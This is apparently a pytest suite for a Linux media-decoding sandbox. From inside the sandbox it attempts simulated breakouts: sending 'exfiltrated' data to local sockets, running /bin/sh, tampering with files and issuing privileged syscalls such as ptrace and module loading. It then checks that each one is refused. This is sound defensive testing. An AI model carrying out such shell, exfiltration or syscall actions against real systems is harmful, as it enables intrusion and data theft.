"""Real attacks from inside a decode sandbox: what an exploited decoder would try.

Each attack is a module-level function run through ``swift_safe_media.call``; the
targets are real (a live TCP listener on 127.0.0.1, a Unix socket listener, /bin/sh,
files in a temporary folder, the caller process). Every attempt must reach nothing and
come back as a MediaDecodeError naming the media and the refused action."""

from __future__ import annotations

import ctypes
import functools
import http.server
import os
import signal
import socket
import subprocess
import threading

import numpy as np
import pytest

import swift_safe_media
from swift_safe_media import MediaDecodeError, call, isolated
from swift_safe_media.confinement import policy as confine

try:
    from tests import media_corpus
except ImportError:
    import media_corpus

pytestmark = [
    pytest.mark.timeout(120),
    pytest.mark.skipif(confine.landlock_abi() < 1 or confine.seccomp_available() is not None,
                       reason="the kernel lacks Landlock or seccomp"),
]

CLIP = "/datasets/scraped/clip_0042.mp4"  # names the media in errors; never opened


# --- attacks (run in the sandbox) --------------------------------------------------------

def sandbox_pid():
    return os.getpid()


def tcp_connect_and_send(port):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
        conn.sendall(b"exfiltrated")
    return "sent"


def unix_connect_and_send(address):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.connect(address)
        conn.sendall(b"exfiltrated")
    return "sent"


def open_socket(family, kind):
    socket.socket(family, kind).close()
    return "opened"


def run_shell(marker):
    subprocess.run(["/bin/sh", "-c", f"echo pwned > {marker}"], check=False)
    return "ran"


def exec_shell(marker):
    os.execv("/bin/sh", ["/bin/sh", "-c", f"echo pwned > {marker}"])


def shell_via_system(marker):
    return os.system(f"echo pwned > {marker}")  # libc system(): no Python exception


FILE_ATTACKS = {
    "create": lambda d: open(os.path.join(d, "new.txt"), "w").write("pwned"),
    "overwrite": lambda d: open(os.path.join(d, "victim.txt"), "r+").write("pwned"),
    "append": lambda d: open(os.path.join(d, "victim.txt"), "a").write("pwned"),
    "truncate": lambda d: os.truncate(os.path.join(d, "victim.txt"), 0),
    "rename": lambda d: os.rename(os.path.join(d, "victim.txt"), os.path.join(d, "moved.txt")),
    "unlink": lambda d: os.unlink(os.path.join(d, "victim.txt")),
    "mkdir": lambda d: os.mkdir(os.path.join(d, "newdir")),
    "symlink": lambda d: os.symlink("/etc/passwd", os.path.join(d, "link")),
    "hardlink": lambda d: os.link(os.path.join(d, "victim.txt"), os.path.join(d, "hard")),
    "mkfifo": lambda d: os.mkfifo(os.path.join(d, "fifo")),
    "chmod": lambda d: os.chmod(os.path.join(d, "victim.txt"), 0o777),
    "utime": lambda d: os.utime(os.path.join(d, "victim.txt"), (0, 0)),
}


def file_attack(name, directory):
    FILE_ATTACKS[name](directory)
    return "done"


def raw_syscall(name, *args):
    number = confine.syscall_numbers()[name]
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args]) < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return "allowed"


def signal_caller(pid):
    os.kill(pid, signal.SIGUSR1)
    return "sent"


def read_file(filename):
    with open(filename, "rb") as f:
        return f.read()


@isolated(confine=False)
def unconfined_write(filename):
    with open(filename, "w") as out:
        out.write("allowed")
    return os.getpid()


# --- fixtures ------------------------------------------------------------------------------

@pytest.fixture
def tcp_listener():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    yield listener
    listener.close()


def assert_refused(error, action):
    assert error.path == CLIP and CLIP in str(error)
    assert f"sandbox refused {action}" in error.reason, error.reason


def refused(fn, *args, action, **kwargs):
    with pytest.raises(MediaDecodeError) as caught:
        call(fn, *args, path=CLIP, timeout=20, **kwargs)
    assert_refused(caught.value, action)
    return caught.value


def proc_status(pid):
    with open(f"/proc/{pid}/status") as status:
        return dict(line.rstrip("\n").split(":\t", 1) for line in status if ":\t" in line)


def snapshot(directory):
    found = {}
    for root, dirs, files in os.walk(directory):
        for name in dirs + files:
            path = os.path.join(root, name)
            info = os.lstat(path)
            content = open(path, "rb").read() if os.path.isfile(path) and not os.path.islink(path) else None
            found[os.path.relpath(path, directory)] = (info.st_mode, info.st_size, info.st_mtime_ns, content)
    return found


# --- tests -------------------------------------------------------------------------------

def test_sandbox_runs_with_no_new_privs_and_a_seccomp_filter():
    pid = call(sandbox_pid)
    status = proc_status(pid)
    assert status["NoNewPrivs"].strip() == "1" and status["Seccomp"].strip() == "2"
    here = call(confine.status_here)
    assert here["landlock_abi"] == confine.landlock_abi() and here["seccomp"] and here["no_new_privs"]


def test_tcp_connect_to_a_live_listener_reaches_nothing(tcp_listener):
    refused(tcp_connect_and_send, tcp_listener.getsockname()[1], action="socket")
    with pytest.raises(socket.timeout):
        tcp_listener.accept()  # nothing connected, so nothing was sent


def test_unix_socket_connect_is_refused(tmp_path):
    path = str(tmp_path / "listener.sock")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(path)
    listener.listen(1)
    listener.settimeout(0.5)
    try:
        refused(unix_connect_and_send, path, action="connect")
        with pytest.raises(socket.timeout):
            listener.accept()
    finally:
        listener.close()


@pytest.mark.parametrize("family, kind", [
    (socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM),
    (socket.AF_INET6, socket.SOCK_STREAM), (socket.AF_NETLINK, socket.SOCK_RAW),
    (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_UNIX, socket.SOCK_DGRAM),
], ids=["inet-tcp", "inet-udp", "inet6", "netlink", "packet", "unix-dgram"])
def test_network_sockets_cannot_be_opened(family, kind):
    refused(open_socket, family, kind, action="socket")


@pytest.mark.parametrize("attack, action", [(run_shell, "execve"), (exec_shell, "execve")])
def test_no_program_runs(tmp_path, attack, action):
    marker = tmp_path / "marker"
    refused(attack, str(marker), action=action)
    assert not marker.exists()


def test_shell_through_libc_system_runs_nothing(tmp_path):
    marker = tmp_path / "marker"
    status = call(shell_via_system, str(marker), path=CLIP)
    assert status != 0 and not marker.exists()


@pytest.mark.parametrize("name", sorted(FILE_ATTACKS))
def test_file_changes_are_refused(tmp_path, name):
    (tmp_path / "victim.txt").write_text("original")
    before = snapshot(tmp_path)
    error = refused(file_attack, name, str(tmp_path), action="")
    assert snapshot(tmp_path) == before, "the attack changed the folder"
    assert str(tmp_path) in error.reason or name in ("chmod", "utime", "mkfifo")  # these name no file


@pytest.mark.parametrize("name, args", [
    ("ptrace", (16, 1)),                     # PTRACE_ATTACH to init
    ("process_vm_readv", (1, 0, 0, 0, 0, 0)),
    ("unshare", (0x10000000,)),              # CLONE_NEWUSER
    ("mount", (0, 0, 0, 0, 0)),
    ("bpf", (0, 0, 0)),
    ("keyctl", (0, 0, 0)),
    ("perf_event_open", (0, 0, -1, -1, 0)),
    ("userfaultfd", (0,)),
    ("io_uring_setup", (1, 0)),
    ("init_module", (0, 0, 0)),
    ("setxattrat", (-100, 0, 0, 0, 0)),      # newer than this libseccomp: refused by number
    ("clone", (0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)),  # a child in a new user namespace
])
def test_kernel_interfaces_are_refused(name, args):
    refused(raw_syscall, name, *args, action=name)


def test_ptrace_of_the_caller_is_refused():
    refused(raw_syscall, "ptrace", 16, os.getpid(), action="ptrace")
    assert proc_status(os.getpid())["TracerPid"].strip() == "0"


def test_signals_do_not_leave_the_sandbox():
    received = []
    previous = signal.signal(signal.SIGUSR1, lambda *_: received.append(1))
    try:
        with pytest.raises(PermissionError):
            call(signal_caller, os.getpid(), path=CLIP)
    finally:
        signal.signal(signal.SIGUSR1, previous)
    assert received == []


def test_sandboxes_started_by_exec_are_confined_too(fresh_engine, monkeypatch, tmp_path):
    monkeypatch.setenv("SWIFT_SAFE_MEDIA_PRELOAD", "numpy,tests.thread_starter")  # forces the exec path
    pid = call(sandbox_pid, timeout=60)
    with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
        assert b"exec_sandbox_main" in cmdline.read()
    status = proc_status(pid)
    assert status["NoNewPrivs"].strip() == "1" and status["Seccomp"].strip() == "2"
    # seccomp covers the thread the preloaded module started before confinement (TSYNC)
    threads = os.listdir(f"/proc/{pid}/task")
    assert len(threads) == 2 and all(proc_status(f"{pid}/task/{t}")["Seccomp"].strip() == "2" for t in threads)
    refused(file_attack, "create", str(tmp_path), action="a file write")
    assert not (tmp_path / "new.txt").exists()


def test_the_memfd_transport_and_threads_still_work():
    frames = call(np.full, (16, 120, 160, 3), 7, np.uint8)
    assert frames.shape == (16, 120, 160, 3) and int(frames.sum()) == 7 * frames.size


def test_confine_0_really_turns_it_off(fresh_engine, monkeypatch, tmp_path, tcp_listener):
    monkeypatch.setenv("SWIFT_SAFE_MEDIA_CONFINE", "0")
    status = proc_status(call(sandbox_pid))
    assert status["NoNewPrivs"].strip() == "0" and status["Seccomp"].strip() == "0"
    assert call(tcp_connect_and_send, tcp_listener.getsockname()[1]) == "sent"
    conn, _ = tcp_listener.accept()
    assert conn.recv(100) == b"exfiltrated"
    conn.close()
    call(file_attack, "create", str(tmp_path))
    assert (tmp_path / "new.txt").read_text() == "pwned"


def test_per_function_opt_out_runs_unconfined(tmp_path):
    target = tmp_path / "written.txt"
    pid = unconfined_write(str(target))
    assert target.read_text() == "allowed"
    assert proc_status(pid)["Seccomp"].strip() == "0"
    confined = call(sandbox_pid)
    assert confined != pid and proc_status(confined)["Seccomp"].strip() == "2"


def test_read_roots_limit_reads(fresh_engine, monkeypatch, tmp_path):
    inside, outside = tmp_path / "media", tmp_path / "private"
    inside.mkdir(), outside.mkdir()
    (inside / "clip.bin").write_bytes(b"clip")
    (outside / "secret.txt").write_bytes(b"secret")
    monkeypatch.setenv("SWIFT_SAFE_MEDIA_READ_ROOTS", str(inside))
    assert call(read_file, str(inside / "clip.bin")) == b"clip"
    refused(read_file, str(outside / "secret.txt"), action="a file access outside")


# --- URL inputs: fetched outside the confined decode ---------------------------------------

@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    return media_corpus.session_corpus(tmp_path_factory)


def test_url_decode_works_confined(corpus):
    import swift_safe_media.decoders as safe

    requests = []
    directory = os.path.dirname(corpus["h264_noaudio.mp4"])

    class Handler(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args):
            requests.append(self.path)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Handler, directory=directory))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/h264_noaudio.mp4"
        np.testing.assert_array_equal(safe.load_video_llava(url), safe.load_video_llava(corpus["h264_noaudio.mp4"]))
    finally:
        server.shutdown()
        server.server_close()
    assert requests == ["/h264_noaudio.mp4"]
    assert proc_status(call(sandbox_pid))["Seccomp"].strip() == "2", "the decode itself stays confined"


def test_qwen_frame_list_of_urls_works_confined(tmp_path):
    from PIL import Image

    import swift_safe_media.decoders as safe

    names = []
    for index in range(4):
        names.append(f"frame{index}.png")
        Image.fromarray(np.full((56, 84, 3), 40 * index, np.uint8)).save(tmp_path / names[-1])
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        root = f"http://127.0.0.1:{server.server_address[1]}"
        from_urls = safe.fetch_video({"video": [f"{root}/{name}" for name in names]})
    finally:
        server.shutdown()
        server.server_close()
    from_files = safe.fetch_video({"video": [str(tmp_path / name) for name in names]})
    assert from_urls.shape == from_files.shape and bool((from_urls == from_files).all())


def test_status_describes_what_is_in_force():
    found = swift_safe_media.confinement.policy.status()
    assert found["enabled"] and found["seccomp"] and found["landlock_abi"] == confine.landlock_abi()
    assert "connect" in found["refused"]["syscalls"] and "write_file" in found["refused"]["landlock_fs"]
